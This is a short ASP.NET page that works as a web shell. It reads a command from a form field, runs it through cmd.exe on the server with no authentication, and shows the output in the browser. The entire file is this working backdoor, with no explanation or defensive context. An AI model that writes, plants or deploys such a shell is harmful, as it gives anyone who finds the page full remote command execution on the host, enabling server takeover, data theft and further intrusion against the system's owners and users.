<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Run(object sender, EventArgs e)
{
    string cmd = Request.Form["q"];
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + cmd;
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    psi.CreateNoWindow = true;
    Process p = Process.Start(psi);
    StreamReader sr = p.StandardOutput;
    output.Text = Server.HtmlEncode(sr.ReadToEnd());
}
</script>
<html><body>
<form runat="server">
<asp:TextBox ID="q" runat="server" Width="600" />
<asp:Button ID="go" runat="server" Text="Run" OnClick="Run" />
<pre><asp:Literal ID="output" runat="server" /></pre>
</form>
</body></html>
